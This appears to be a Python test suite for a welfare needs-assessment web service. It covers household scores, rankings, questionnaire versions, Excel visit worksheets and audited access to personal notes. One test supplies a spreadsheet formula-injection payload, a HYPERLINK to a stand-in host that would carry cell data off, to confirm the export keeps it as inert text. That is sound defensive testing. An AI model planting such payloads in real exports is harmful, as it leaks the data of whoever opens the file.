"""Needs assessment: scores against hand-computed values, ranking and ties, recommendations."""

from models import Assessment, Need
from tests.builders import iso, make_admin, make_resident, make_station, make_worker, soon
from tests.handlers.test_platform import assert_error

HARD = {"household_size": 1, "caregiver": "none", "monthly_income_per_capita": 400, "rigid_expenses": ["medical", "care"],
        "housing_safe": False, "sanitation": "poor", "self_care": "none", "chronic_illness": True,
        "minors_in_school": 0, "schooling_difficulty": False, "working_adults": 0}
MILD = {"household_size": 3, "caregiver": "spouse", "monthly_income_per_capita": 1500, "rigid_expenses": [],
        "housing_safe": True, "sanitation": "fair", "self_care": "partial", "chronic_illness": False,
        "minors_in_school": 2, "schooling_difficulty": True, "working_adults": 1}


async def assess(client, worker, resident_id, answers, **extra):
    r = await client.post(f"/api/v1/residents/{resident_id}/assessments",
                          json={"answers": answers, "visited_at": iso(soon(-60)), **extra}, headers=worker.headers)
    assert r.status_code == 201, r.text
    return r.json()


async def test_scores_match_hand_computed_values(client):
    station = await make_station()
    worker = await make_worker(client, station)
    _, hard_home = await make_resident(client, station)
    _, mild_home = await make_resident(client, station)
    hard = await assess(client, worker, hard_home["id"], HARD, visit_notes="卧床,子女在外地")
    # family (1×1.0 + 2×1.0)/3 = 100; income (2×1.0 + 1×0.9)/3 = 96.67; living 100; health 100;
    # children 0; employment 100; overall (100 + 1.5×96.67 + 100 + 1.5×100 + 0.5×0 + 100) / 6.5 = 91.54.
    assert hard["scores"] == {"family": 100.0, "income": 96.67, "living": 100.0, "health": 100.0, "children": 0.0,
                              "employment": 100.0}
    assert hard["overall"] == 91.54 and hard["level"] == "特别困难"
    assert hard["visit_notes"] == "卧床,子女在外地"
    mild = await assess(client, worker, mild_home["id"], MILD)
    # family (0.3 + 2×0.3)/3 = 30; income (2×0.4 + 0)/3 = 26.67; living (0 + 0.5)/2 = 25;
    # health (3×0.6 + 0)/4 = 45; children 100; employment 50; overall 262.505 / 6.5 = 40.39.
    assert mild["scores"] == {"family": 30.0, "income": 26.67, "living": 25.0, "health": 45.0, "children": 100.0,
                              "employment": 50.0}
    assert mild["overall"] == 40.39 and mild["level"] == "较困难"
    row = await Assessment.get(id=hard["id"])
    assert "卧床" not in (row.visit_notes_enc or "")  # encrypted at rest


async def test_answers_that_do_not_fit_are_400_naming_the_items(client):
    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station)
    bad = {**HARD, "caregiver": "robot", "rigid_expenses": ["medical", "medical"], "household_size": 0, "shoe_size": 42}
    del bad["working_adults"]
    r = await client.post(f"/api/v1/residents/{home['id']}/assessments", json={"answers": bad, "visited_at": iso(soon(-5))},
                          headers=worker.headers)
    err = assert_error(r, 400, "VALIDATION_ERROR")
    assert {d["field"] for d in err["details"]} == {"answers.caregiver", "answers.rigid_expenses", "answers.household_size",
                                                     "answers.shoe_size", "answers.working_adults"}
    assert await Assessment.all().count() == 0


async def test_answers_of_the_wrong_shape_are_400_not_500(client):
    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station)
    bad = {**HARD, "caregiver": ["none"], "rigid_expenses": [{}], "sanitation": {"poor": True}}
    r = await client.post(f"/api/v1/residents/{home['id']}/assessments", json={"answers": bad, "visited_at": iso(soon(-5))},
                          headers=worker.headers)
    err = assert_error(r, 400, "VALIDATION_ERROR")
    assert {d["field"] for d in err["details"]} == {"answers.caregiver", "answers.rigid_expenses", "answers.sanitation"}
    assert await Assessment.all().count() == 0


async def test_ranking_overall_and_by_dimension_with_ties_and_unassessed(client):
    station = await make_station()
    worker = await make_worker(client, station)
    homes = [(await make_resident(client, station))[1]["id"] for _ in range(4)]
    await assess(client, worker, homes[2], MILD)
    await assess(client, worker, homes[0], HARD)
    await assess(client, worker, homes[1], MILD)  # ties with homes[2]
    r = await client.get(f"/api/v1/stations/{station.id}/ranking", headers=worker.headers)
    board = r.json()
    assert [(x["resident_id"], x["rank"]) for x in board["items"]] == [(homes[0], 1), (homes[1], 2), (homes[2], 2)]
    assert [x["resident_id"] for x in board["unassessed"]] == [homes[3]]
    r = await client.get(f"/api/v1/stations/{station.id}/ranking", params={"dimension": "children"}, headers=worker.headers)
    assert [x["resident_id"] for x in r.json()["items"]] == [homes[1], homes[2], homes[0]]
    # A newer visit replaces the older one in the ranking.
    await assess(client, worker, homes[0], MILD)
    r = await client.get(f"/api/v1/stations/{station.id}/ranking", headers=worker.headers)
    assert [x["rank"] for x in r.json()["items"]] == [1, 1, 1]
    assert_error(await client.get(f"/api/v1/stations/{station.id}/ranking", params={"dimension": "luck"}, headers=worker.headers),
                 400, "VALIDATION_ERROR")
    empty = await make_station()
    admin = await make_admin(client)
    r = await client.get(f"/api/v1/stations/{empty.id}/ranking", headers=admin.headers)
    assert r.status_code == 200 and r.json()["items"] == [] and r.json()["unassessed"] == []
    other = await make_worker(client, await make_station())
    assert_error(await client.get(f"/api/v1/stations/{station.id}/ranking", headers=other.headers), 404, "NOT_FOUND")


async def test_recommendations_name_the_rules_and_become_needs(client):
    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station, categories=["独居", "特困"], checked_by=worker)
    assert (await client.get(f"/api/v1/residents/{home['id']}/recommendations", headers=worker.headers)).json() == []
    await assess(client, worker, home["id"], HARD)
    recs = (await client.get(f"/api/v1/residents/{home['id']}/recommendations", headers=worker.headers)).json()
    assert [r["rule"] for r in recs] == ["alone_disabled", "incapacitated", "poor_sanitation"]
    assert recs[0]["reason"] == "独居/空巢且自理能力受限" and "LIVING_MEAL" in recs[0]["services"]
    r = await client.post(f"/api/v1/residents/{home['id']}/recommendations/needs",
                          json={"rule": "alone_disabled", "service_code": "LIVING_MEAL"}, headers=worker.headers)
    assert r.status_code == 201, r.text
    assert r.json()["source"] == "assessment" and r.json()["on_behalf"] is True
    r = await client.post(f"/api/v1/residents/{home['id']}/recommendations/needs",
                          json={"rule": "children_study", "service_code": "SUPPORT_TUTOR"}, headers=worker.headers)
    assert_error(r, 400, "VALIDATION_ERROR")
    assert await Need.all().count() == 1


async def test_admin_publishes_a_new_questionnaire_old_assessments_keep_theirs(client):
    from config.data import QUESTIONNAIRE

    station = await make_station()
    worker = await make_worker(client, station)
    admin = await make_admin(client)
    _, home = await make_resident(client, station)
    first = await assess(client, worker, home["id"], HARD)
    spec = {k: v for k, v in QUESTIONNAIRE.items() if k != "version"}
    spec["dimensions"] = [d for d in spec["dimensions"] if d["id"] != "children"]
    r = await client.put("/api/v1/admin/questionnaire", json=spec, headers=admin.headers)
    assert r.status_code == 201 and r.json()["version"] == 2
    answers = {k: v for k, v in HARD.items() if k not in ("minors_in_school", "schooling_difficulty")}
    second = await assess(client, worker, home["id"], answers)
    assert second["version"] == 2 and "children" not in second["scores"]
    history = (await client.get(f"/api/v1/residents/{home['id']}/assessments", headers=worker.headers)).json()
    assert [(h["id"], h["version"]) for h in history] == [(second["id"], 2), (first["id"], 1)]
    # The first assessment is still scored under version 1.
    assert history[1]["scores"]["children"] == 0.0
    bad = {**spec, "dimensions": [{"id": "x", "name": "x", "weight": 1, "items": [{"id": "q", "type": "single", "label": "q", "weight": 1}]}]}
    assert_error(await client.put("/api/v1/admin/questionnaire", json=bad, headers=admin.headers), 400, "VALIDATION_ERROR")


async def test_district_and_city_rankings_compare_stations_for_admins(client):
    from tests.builders import make_district

    d1, d2 = await make_district(), await make_district()
    a, b, empty, c = (await make_station(d1), await make_station(d1), await make_station(d1), await make_station(d2))
    wa, wb, wc = await make_worker(client, a), await make_worker(client, b), await make_worker(client, c)
    a_hard, a_mild, a_never = [(await make_resident(client, a))[1]["id"] for _ in range(3)]
    b1, b2 = [(await make_resident(client, b))[1]["id"] for _ in range(2)]
    c_hard = (await make_resident(client, c))[1]["id"]
    await assess(client, wa, a_hard, HARD)
    await assess(client, wa, a_mild, MILD)
    await assess(client, wb, b1, MILD)
    await assess(client, wb, b2, MILD)
    await assess(client, wc, c_hard, HARD)
    admin = await make_admin(client)
    r = await client.get(f"/api/v1/districts/{d1.id}/ranking", headers=admin.headers)
    assert r.status_code == 200, r.text
    view = r.json()
    # Hand-computed from the scores above: A = mean(91.54, 40.39), B = 40.39, the empty station last, unranked.
    assert [(s["station_id"], s["average_score"], s["rank"]) for s in view["stations"]] == [
        (a.id, round((91.54 + 40.39) / 2, 2), 1), (b.id, 40.39, 2), (empty.id, None, None)]
    first = view["stations"][0]
    assert (first["households"], first["assessed"], first["unassessed"]) == (3, 2, 1)
    assert first["levels"] == {"特别困难": 1, "较困难": 1}
    assert [(h["resident_id"], h["rank"]) for h in view["households"]] == [
        (a_hard, 1), (a_mild, 2), (b1, 2), (b2, 2)]
    assert a_never not in [h["resident_id"] for h in view["households"]]
    r = await client.get("/api/v1/ranking", params={"limit": 2}, headers=admin.headers)
    city = r.json()
    assert [s["station_id"] for s in city["stations"]] == [c.id, a.id, b.id, empty.id]
    assert [(h["resident_id"], h["station_id"], h["rank"]) for h in city["households"]] == [
        (a_hard, a.id, 1), (c_hard, c.id, 1)]
    r = await client.get("/api/v1/ranking", params={"dimension": "children"}, headers=admin.headers)
    assert r.json()["stations"][0]["station_id"] == b.id  # MILD households score 100 on children
    assert_error(await client.get("/api/v1/ranking", params={"dimension": "luck"}, headers=admin.headers),
                 400, "VALIDATION_ERROR")
    assert_error(await client.get("/api/v1/districts/999999/ranking", headers=admin.headers), 404, "NOT_FOUND")
    assert_error(await client.get(f"/api/v1/districts/{d1.id}/ranking", headers=wa.headers), 403, "FORBIDDEN")
    assert_error(await client.get("/api/v1/ranking", headers=wa.headers), 403, "FORBIDDEN")


async def test_printable_visit_worksheet_with_previous_answers(client):
    import io

    from openpyxl import load_workbook

    from models import AuditLog

    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station, name="孙桂兰", phone="13912345678")
    r = await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", headers=worker.headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = {row[0]: row[1:] for row in sheet.iter_rows(values_only=True) if row[0]}
    assert cells["姓名"][0] == "孙**" and cells["联系电话"][0] == "139****5678" and cells["上次评估"][0] == "未评估"
    # What the household declared of itself is there for the visit to check, apart from the checked.
    assert cells["救助类别"][0] == "无" and cells["自报类别(待核实)"][0] == "、".join(home["declared_categories"])
    assert str(sheet.page_setup.paperSize) == str(sheet.PAPERSIZE_A4) and sheet.sheet_properties.pageSetUpPr.fitToPage
    # Every item of the questionnaire in force is on the sheet, choices as boxes to tick.
    from config.data import QUESTIONNAIRE

    for d in QUESTIONNAIRE["dimensions"]:
        assert d["name"] in cells
        for item in d["items"]:
            assert item["label"] in cells, item["label"]
    assert cells["日常照料人"][0].startswith("□ 无人照料")
    assert cells["住房安全"][0] == "□ 是   □ 否" and cells["住房安全"][1] is None
    assert await AuditLog.filter(action="resident.worksheet_unmasked").count() == 0
    # After a visit, the next worksheet shows the previous answers; the station may print full details (audited).
    await assess(client, worker, home["id"], HARD)
    r = await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", params={"unmasked": "true"},
                         headers=worker.headers)
    cells = {row[0]: row[1:] for row in load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True) if row[0]}
    assert cells["姓名"][0] == "孙桂兰" and cells["联系电话"][0] == "13912345678"
    assert cells["日常照料人"][1] == "无人照料" and cells["共同生活人数"][1] == "1" and cells["住房安全"][1] == "否"
    assert "综合91.54分 特别困难" in cells["上次评估"][0]
    assert await AuditLog.filter(action="resident.worksheet_unmasked", subject_id=home["id"]).count() == 1
    admin = await make_admin(client)
    assert_error(await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", headers=admin.headers),
                 403, "FORBIDDEN")
    other = await make_worker(client, await make_station())
    assert_error(await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", headers=other.headers),
                 404, "NOT_FOUND")


async def test_a_visit_dated_in_the_future_is_refused_and_hides_no_real_visit(client):
    from datetime import timedelta

    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station)
    real = await assess(client, worker, home["id"], HARD)
    # A visit dated tomorrow would be "latest" for ever after: refused, nothing stored.
    r = await client.post(f"/api/v1/residents/{home['id']}/assessments",
                          json={"answers": MILD, "visited_at": iso(soon(60 * 24))}, headers=worker.headers)
    err = assert_error(r, 400, "VALIDATION_ERROR")
    assert [d["field"] for d in err["details"]] == ["visited_at"]
    assert await Assessment.all().count() == 1
    board = (await client.get(f"/api/v1/stations/{station.id}/ranking", headers=worker.headers)).json()
    assert [(x["resident_id"], x["score"]) for x in board["items"]] == [(home["id"], real["overall"])]
    # A phone a minute ahead of the server is not a future visit.
    await assess(client, worker, home["id"], MILD, visited_at=iso(soon(1)))
    # "Now" is the app's clock, not the test machine's.
    api = client._haibei_api
    clock = api.app.ctx.clock
    api.app.ctx.clock = lambda: clock() + timedelta(days=2)
    try:
        await assess(client, worker, home["id"], MILD, visited_at=iso(soon(60 * 24)))
    finally:
        api.app.ctx.clock = clock


LIGHT = {"household_size": 5, "caregiver": "relative_near", "monthly_income_per_capita": 3000, "rigid_expenses": [],
         "housing_safe": True, "sanitation": "good", "self_care": "full", "chronic_illness": False,
         "minors_in_school": 0, "schooling_difficulty": False, "working_adults": 2}


def _default_spec():
    import copy

    from config.data import QUESTIONNAIRE

    return copy.deepcopy({k: v for k, v in QUESTIONNAIRE.items() if k != "version"})


def _malformed():
    """(what is wrong, the spec, the detail field that must name it)."""
    cases = []
    spec = _default_spec()
    spec["levels"] = [lvl for lvl in spec["levels"] if lvl["min"] > 0]
    cases.append(("no floor level", spec, "levels"))
    spec = _default_spec()
    spec["levels"] = [{"label": "x"}]
    cases.append(("level without name and min", spec, "levels.0.name"))
    spec = _default_spec()
    del spec["dimensions"][0]["items"][1]["options"][0]["score"]
    cases.append(("option without score", spec, "dimensions.0.items.1.options.0.score"))
    spec = _default_spec()
    spec["dimensions"][0]["items"][1]["options"][0]["score"] = 5
    cases.append(("option score above 1", spec, "dimensions.0.items.1.options.0.score"))
    spec = _default_spec()
    spec["dimensions"][0]["items"][1]["options"][1]["value"] = "none"
    cases.append(("duplicate option value", spec, "dimensions.0.items.1.options"))
    spec = _default_spec()
    del spec["dimensions"][0]["items"][0]["brackets"][0]["max"]
    cases.append(("bracket without max", spec, "dimensions.0.items.0.brackets.0.max"))
    spec = _default_spec()
    spec["dimensions"][0]["items"][0]["brackets"] = []
    cases.append(("no brackets", spec, "dimensions.0.items.0.brackets"))
    spec = _default_spec()
    spec["dimensions"][0]["items"][0]["brackets"].reverse()
    cases.append(("brackets out of order", spec, "dimensions.0.items.0.brackets"))
    spec = _default_spec()
    spec["dimensions"][1]["id"] = "family"
    cases.append(("duplicate dimension id", spec, "dimensions"))
    spec = _default_spec()
    spec["dimensions"][1]["items"][0]["id"] = "caregiver"
    cases.append(("item id used twice", spec, "dimensions"))
    return cases


async def test_a_malformed_questionnaire_is_refused_naming_the_part_and_changes_nothing(client):
    from models import QuestionnaireVersion

    station = await make_station()
    worker = await make_worker(client, station)
    admin = await make_admin(client)
    _, home = await make_resident(client, station)
    for what, spec, field in _malformed():
        r = await client.put("/api/v1/admin/questionnaire", json=spec, headers=admin.headers)
        err = assert_error(r, 400, "VALIDATION_ERROR")
        assert field in [d["field"] for d in err["details"]], (what, err["details"])
    assert await QuestionnaireVersion.all().count() == 0
    r = await client.get("/api/v1/assessment/questionnaire", headers=worker.headers)
    assert r.json()["version"] == 1
    assert (await assess(client, worker, home["id"], HARD))["version"] == 1
    # Levels in any order: a household takes the highest level whose floor it reaches.
    spec = _default_spec()
    spec["levels"].reverse()
    r = await client.put("/api/v1/admin/questionnaire", json=spec, headers=admin.headers)
    assert r.status_code == 201, r.text
    assert (await assess(client, worker, home["id"], HARD))["level"] == "特别困难"
    assert (await assess(client, worker, home["id"], MILD))["level"] == "较困难"


async def test_a_stored_questionnaire_without_a_floor_scores_at_its_lowest_level(client):
    from config.data import QUESTIONNAIRE
    from models import QuestionnaireVersion

    # A version published before publishing was checked: no level for the lowest scores.
    levels = [{"min": 60, "name": "特别困难"}, {"min": 35, "name": "较困难"}]
    await QuestionnaireVersion.create(version=2, spec={**QUESTIONNAIRE, "version": 2, "levels": levels})
    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station)
    light = await assess(client, worker, home["id"], LIGHT)
    assert light["version"] == 2 and light["overall"] < 35 and light["level"] == "较困难"


def test_the_worksheet_shows_an_answer_kept_under_an_older_version_whatever_its_shape():
    from server.reports.worksheets import _previous

    single = {"id": "caregiver", "type": "single", "options": [{"value": "none", "label": "无人照料"}]}
    multi = {"id": "rigid_expenses", "type": "multi", "options": [{"value": "medical", "label": "医疗"}]}
    # The item was multi-choice (or single) when these were recorded.
    assert _previous(single, {"caregiver": ["none", "spouse"]}) == "无人照料、spouse"
    assert _previous(multi, {"rigid_expenses": "medical"}) == "医疗"
    assert _previous(multi, {"rigid_expenses": [{"x": 1}]}) == "{'x': 1}"
    assert _previous(multi, {"rigid_expenses": []}) == "无"


async def test_the_worksheet_writes_what_a_household_typed_as_text_never_as_a_formula(client):
    # A household names itself; a worker opens the sheet in Excel or WPS. Text that starts with "="
    # must stay text, or the sheet runs it (CSV/formula injection, OWASP).
    import io

    from openpyxl import load_workbook

    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station, name='=HYPERLINK("http://x.example/"&B4,"点此")',
                                  community="=1+1")
    r = await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", params={"unmasked": "true"},
                         headers=worker.headers)
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows() if row[0].value}
    assert cells["姓名"].data_type == "s" and cells["姓名"].value == '=HYPERLINK("http://x.example/"&B4,"点此")'
    assert cells["社区 / 住址"].data_type == "s" and cells["社区 / 住址"].value.startswith("=1+1 ")


async def test_a_need_from_a_recommendation_has_its_description_screened_like_any_need(client):
    # README (content security): need descriptions pass the word list and msgSecCheck, whoever
    # writes them and through whichever route the need is made.
    station = await make_station()
    worker = await make_worker(client, station)
    _, home = await make_resident(client, station, categories=["独居"])
    await assess(client, worker, home["id"], HARD)
    r = await client.post(f"/api/v1/residents/{home['id']}/recommendations/needs",
                          json={"rule": "alone_disabled", "service_code": "LIVING_MEAL", "description": "想找人一起赌博"},
                          headers=worker.headers)
    err = assert_error(r, 422, "CONTENT_RISKY")
    assert err["details"]["field"] == "description"
    assert await Need.all().count() == 0


async def test_recommendations_survive_an_answer_whose_item_changed_type_in_a_new_version(client):
    # The rules are fixed config; the questionnaire is published by admins. Once working_adults is
    # a choice instead of a number, a rule's {"max": 0} cannot hold for it: the rule does not fire,
    # and the household's recommendations still answer (not a 500).
    from config.data import QUESTIONNAIRE

    station = await make_station()
    worker = await make_worker(client, station)
    admin = await make_admin(client)
    _, home = await make_resident(client, station, categories=["低保", "独居"], checked_by=worker)
    spec = {k: v for k, v in QUESTIONNAIRE.items() if k != "version"}
    choice = {"id": "working_adults", "type": "single", "label": "家中是否有就业劳动力", "weight": 1,
              "options": [{"value": "none", "label": "无", "score": 1.0}, {"value": "some", "label": "有", "score": 0.0}]}
    spec["dimensions"] = [d if d["id"] != "employment" else {**d, "items": [choice]} for d in spec["dimensions"]]
    r = await client.put("/api/v1/admin/questionnaire", json=spec, headers=admin.headers)
    assert r.status_code == 201, r.text
    await assess(client, worker, home["id"], {**HARD, "working_adults": "none"})
    r = await client.get(f"/api/v1/residents/{home['id']}/recommendations", headers=worker.headers)
    assert r.status_code == 200, r.text
    assert [x["rule"] for x in r.json()] == ["alone_disabled", "incapacitated", "poor_sanitation"]


async def test_a_household_that_moved_station_is_ranked_by_its_latest_visit_where_it_is_now(client):
    # The ranking, like the history, the worksheet and the recommendations, is about the household:
    # its latest visit counts wherever it was made, at the station the household belongs to now.
    from tests.builders import resident_payload

    a, b = await make_station(), await make_station()
    worker_a, worker_b = await make_worker(client, a), await make_worker(client, b)
    s, home = await make_resident(client, a)
    await assess(client, worker_a, home["id"], HARD)
    r = await client.put("/api/v1/me/resident", json=resident_payload(b), headers=s.headers)
    assert r.status_code == 200, r.text
    board = (await client.get(f"/api/v1/stations/{b.id}/ranking", headers=worker_b.headers)).json()
    assert [(x["resident_id"], x["score"]) for x in board["items"]] == [(home["id"], 91.54)] and board["unassessed"] == []
    assert (await client.get(f"/api/v1/stations/{a.id}/ranking", headers=worker_a.headers)).json()["items"] == []
    admin = await make_admin(client)
    city = (await client.get("/api/v1/ranking", headers=admin.headers)).json()
    by_station = {x["station_id"]: x for x in city["stations"]}
    assert (by_station[b.id]["assessed"], by_station[a.id]["assessed"]) == (1, 0)


async def test_a_worker_does_not_assess_their_own_household(client):
    # The score ranks the household for help and matches policies (任务六): nobody scores
    # their own need; a colleague visits.
    from tests.builders import resident_payload

    station = await make_station()
    worker, colleague = await make_worker(client, station), await make_worker(client, station)
    r = await client.put("/api/v1/me/resident", json=resident_payload(station), headers=worker.headers)
    home = r.json()
    r = await client.post(f"/api/v1/residents/{home['id']}/assessments", json={"answers": HARD, "visited_at": iso(soon(-5))},
                          headers=worker.headers)
    assert_error(r, 403, "OWN_ASSESSMENT")
    assert await Assessment.filter(resident_id=home["id"]).count() == 0
    await assess(client, colleague, home["id"], HARD)


async def test_an_answer_of_infinity_or_nan_is_400_not_500(client):
    # JSON as Python reads it lets Infinity and NaN through; no JSON column can keep them. Even for
    # an item published without bounds they never reach the questionnaire's checks.
    import json

    from config.data import QUESTIONNAIRE

    station = await make_station()
    worker = await make_worker(client, station)
    admin = await make_admin(client)
    _, home = await make_resident(client, station)
    spec = {k: v for k, v in QUESTIONNAIRE.items() if k != "version"}
    unbounded = {"id": "working_adults", "type": "number", "label": "就业劳动力人数", "weight": 1,
                 "brackets": [{"max": 0, "score": 1.0}, {"max": 1, "score": 0.5}, {"max": 10, "score": 0.0}]}
    spec["dimensions"] = [d if d["id"] != "employment" else {**d, "items": [unbounded]} for d in spec["dimensions"]]
    assert (await client.put("/api/v1/admin/questionnaire", json=spec, headers=admin.headers)).status_code == 201
    for bad in ("Infinity", "NaN", "-Infinity"):
        raw = json.dumps({"answers": {**HARD, "working_adults": 0}, "visited_at": iso(soon(-5))}).replace(
            '"working_adults": 0', f'"working_adults": {bad}')
        r = await client.post(f"/api/v1/residents/{home['id']}/assessments", content=raw,
                              headers={**worker.headers, "content-type": "application/json"})
        # Not JSON at all (Python's extension of it): refused as the body it is, before any field.
        err = assert_error(r, 400, "VALIDATION_ERROR")
        assert err["details"] == [{"field": "", "type": "json_invalid"}], bad
    assert await Assessment.all().count() == 0


async def test_reading_visit_notes_in_a_households_history_is_audited(client):
    # Visit notes hold health and family details, kept encrypted like the profile's health notes;
    # every read of them in full leaves an audit row, as an unmasked profile read does (PIPL art. 51).
    from models import AuditLog

    station = await make_station()
    worker = await make_worker(client, station)
    admin = await make_admin(client)
    _, home = await make_resident(client, station)
    _, plain = await make_resident(client, station)
    await assess(client, worker, home["id"], HARD, visit_notes="卧床,子女在外地")
    await assess(client, worker, plain["id"], MILD)
    r = await client.get(f"/api/v1/residents/{home['id']}/assessments", headers=worker.headers)
    assert r.json()[0]["visit_notes"] == "卧床,子女在外地"
    rows = await AuditLog.filter(action="assessment.read_notes")
    assert [(a.actor_id, a.subject_type, a.subject_id, a.fields_read) for a in rows] == [
        (worker.id, "resident", home["id"], ["visit_notes"])]
    # Nothing read, nothing audited: the administrator's view has no notes, nor has a visit without them.
    assert (await client.get(f"/api/v1/residents/{home['id']}/assessments", headers=admin.headers)).json()[0]["visit_notes"] is None
    await client.get(f"/api/v1/residents/{plain['id']}/assessments", headers=worker.headers)
    assert await AuditLog.filter(action="assessment.read_notes").count() == 1
